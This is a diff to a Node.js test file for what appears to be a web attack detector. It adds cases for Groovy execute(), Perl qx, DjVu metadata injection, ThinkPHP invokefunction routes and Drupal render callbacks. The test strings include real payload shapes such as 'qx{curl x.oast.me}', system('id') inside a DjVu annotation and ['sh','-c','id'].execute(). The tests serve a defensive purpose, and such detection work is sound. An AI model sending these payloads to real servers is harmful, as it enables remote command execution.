@@ -3,10 +3,11 @@ import assert from "node:assert/strict";
 import { describe, it } from "node:test";
 import fc from "fast-check";
 import { demoCommandCall, developerContext, twoWords } from "./demo.js";
-import { findSerialized } from "./java.js";
+import { frameworkRoute, renderCallbackKey } from "./framework.js";
+import { findSerialized, groovyExecute } from "./java.js";
 import { detectLog4j } from "./log4shell.js";
 import { detectPhp } from "./php.js";
-import { detectProto, detectShellshock } from "./scripting.js";
+import { detectPerlExec, detectProto, detectShellshock, findPerlExec } from "./scripting.js";
 
 describe("log4j lookups", () => {
   it("resolves nested lookups to jndi", () => {
@@ -138,5 +139,69 @@ describe("php complex syntax", () => {
     assert.equal(detectPhp("x{${usleep(9)}}", false)?.signature, "rce.php-complex-syntax");
     assert.equal(detectPhp("{${ Foo\\bar (1)}}", false)?.signature, "rce.php-complex-syntax");
     assert.equal(detectPhp("total {${amount}}", false), null);
+  });
+});
+
+describe("groovy execute", () => {
+  it("flags a string or list literal run as a process", () => {
+    for (const v of ['println "id".execute().text', '["sh","-c","id"].execute()', "'ls -la' .execute()"])
+      assert.equal(groovyExecute(v)?.signature, "rce.groovy-execute", v);
+  });
+  it("ignores execute() on variables, indexes and in prose", () => {
+    for (const v of [
+      "stmt.execute()",
+      "call execute() on it",
+      "cmds[0].execute()",
+      'map["k"].execute()',
+      '"".execute()',
+    ])
+      assert.equal(groovyExecute(v), null, v);
+  });
+});
+
+describe("perl command execution", () => {
+  it("flags qx with a command inside, and DjVu metadata annotations", () => {
+    for (const v of [
+      "qx{curl x.oast.me}",
+      "qx(id)",
+      "qx/uname -a/",
+      "qx {whoami}",
+      "(metadata \"\\c${system('id')};\")",
+      "(metadata (Author `id`))",
+    ])
+      assert.equal(detectPerlExec(v)?.signature, "rce.perl-command", v);
+  });
+  it("ignores qx without a command, and class paths", () => {
+    for (const v of ["qx/ui/core/Widget.js", "qx{5}", "qx #id#", "aqx{id}", "qx/id"])
+      assert.equal(detectPerlExec(v), null, v);
+  });
+  it("finds an annotation in upload bytes, and stays bounded", () => {
+    const bytes = `AT&TFORM\u0000\u0000\u0003\u00afDJVU${"\u0000x".repeat(5000)}(metadata (Copyright "\\\n" . qx{curl h} . \\\n" b ") )`;
+    assert.equal(findPerlExec(bytes)?.signature, "rce.perl-command");
+    fc.assert(
+      fc.property(fc.string({ maxLength: 300 }), (s) => void findPerlExec(`qx{${s}(metadata ${s}`)),
+      {
+        numRuns: 500,
+      },
+    );
+  });
+});
+
+describe("framework signs", () => {
+  it("flags namespaced routes to a container's invoker or a think class", () => {
+    for (const v of [
+      "/Index/\\think\\app/invokefunction",
+      "index/think\\Container/invokefunction",
+      "index/\\think\\Request/input",
+    ])
+      assert.equal(frameworkRoute(v)?.signature, "rce.php-framework-route", v);
+    assert.equal(frameworkRoute("C:\\Users\\think\\Documents/report.docx"), null);
+    assert.equal(frameworkRoute("a\\b/c"), null);
+  });
+  it("flags Drupal render callbacks in parameter names only as properties", () => {
+    for (const k of ["mail[#post_render][]", "#lazy_builder", "name[ #pre_render ]", "a[#access_callback]"])
+      assert.equal(renderCallbackKey(k)?.signature, "rce.drupal-render-callback", k);
+    for (const k of ["mail[#type]", "tag#process", "#processing", "post_render"])
+      assert.equal(renderCallbackKey(k), null, k);
   });
 });
